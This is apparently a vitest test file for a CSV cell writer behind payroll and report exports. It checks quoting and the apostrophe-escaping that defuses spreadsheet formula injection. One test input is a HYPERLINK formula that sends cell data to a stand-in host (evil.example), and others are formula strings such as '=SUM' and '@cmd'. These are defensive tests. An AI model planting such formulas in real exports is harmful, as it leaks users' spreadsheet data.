import { describe, expect, it } from 'vitest';
import { csvCell, csvText, type CsvValue } from '@app/schema';

/**
 * The one CSV cell writer (packages/schema/src/csv.ts) behind every CSV of the server (payroll
 * register, project financial report) and of the web app (list exports, import templates).
 */
describe('csvCell', () => {
  it.each<[string, CsvValue, string]>([
    ['plain text', 'plain', 'plain'],
    ['Arabic text', 'عمر', 'عمر'],
    ['empty text', '', ''],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['a number', 12.5, '12.5'],
    ['a negative number', -3, '-3'],
    ['a negative amount as text', '-3.50', '-3.50'],
    ['zero', '0', '0'],
    ['a boolean', true, 'true'],
    ['a comma', 'a,b', '"a,b"'],
    ['quotes', 'say "hi"', '"say ""hi"""'],
    ['a line feed', 'two\nlines', '"two\nlines"'],
    ['a carriage return inside', 'cr\ronly', '"cr\ronly"'],
    ['=', '=SUM(A1:A2)', "'=SUM(A1:A2)"],
    ['+', '+1+2', "'+1+2"],
    ['a plus before a number', '+5', "'+5"],
    ['-', '-x', "'-x"],
    ['a lone minus', '-', "'-"],
    ['@', '@cmd', "'@cmd"],
    ['a tab', '\t=1+1', "'\t=1+1"],
    ['a carriage return first', '\r=1+1', `"'\r=1+1"`],
    ['full-width =', '\uff1dSUM(A1)', "'\uff1dSUM(A1)"],
    ['full-width +', '\uff0b1', "'\uff0b1"],
    ['full-width -', '\uff0d1', "'\uff0d1"],
    ['full-width @', '\uff20cmd', "'\uff20cmd"],
    [
      'a formula that starts like a number',
      '-1+HYPERLINK("http://evil.example/?"&A1,"Open receipt")',
      `"'-1+HYPERLINK(""http://evil.example/?""&A1,""Open receipt"")"`,
    ],
    ['a number with a trailing dot', '-5.', "'-5."],
    ['a number then text', '-12abc', "'-12abc"],
    ['a formula sign later in the text', 'a=b+c', 'a=b+c'],
  ])('%s', (_label, value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('csvText', () => {
  it('joins cells with commas and lines with CRLF, with no line break at the end', () => {
    expect(
      csvText([
        ['Name', 'Email'],
        ['Amna', 'amna@example.org'],
        ['=cmd', null],
      ]),
    ).toBe("Name,Email\r\nAmna,amna@example.org\r\n'=cmd,");
  });
});
